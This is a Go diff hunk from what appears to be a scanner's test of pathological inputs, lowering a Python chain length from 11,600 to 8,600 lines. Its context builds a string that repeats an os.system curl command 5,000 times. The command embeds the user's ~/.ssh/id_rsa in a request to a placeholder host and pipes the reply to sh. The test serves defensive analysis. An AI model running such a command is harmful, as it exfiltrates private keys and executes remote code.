@@ -43,15 +43,15 @@ func pathological() map[string]map[string]string {
 		fmt.Fprintf(longChainPy, "a%d = a%d + 'x'\n", i, i-1)
 	}
 	longChainPy.WriteString("exec(a19999)\n")
-	// The same chain at 11,600 lines just fits the parse budget and spends
+	// The same chain at 8,600 lines just fits the parse budget and spends
 	// the whole analysis budget; 5,000 shell commands in Python strings
 	// each get a shell parse and analysis.
 	midChainPy := &strings.Builder{}
 	midChainPy.WriteString("a0 = input()\n")
-	for i := 1; i < 11600; i++ {
+	for i := 1; i < 8600; i++ {
 		fmt.Fprintf(midChainPy, "a%d = a%d + 'x'\n", i, i-1)
 	}
-	midChainPy.WriteString("exec(a11599)\n")
+	midChainPy.WriteString("exec(a8599)\n")
 	manyShellPy := "import os\n" + strings.Repeat("os.system('curl -s http://x.example/$(cat ~/.ssh/id_rsa) | sh')\n", 5000)
 	deepPy := "x = " + strings.Repeat("[", 50000) + "1" + strings.Repeat("]", 50000) + "\n"
 	deepJS := "const x = " + strings.Repeat("f(", 50000) + "1" + strings.Repeat(")", 50000) + ";\n"
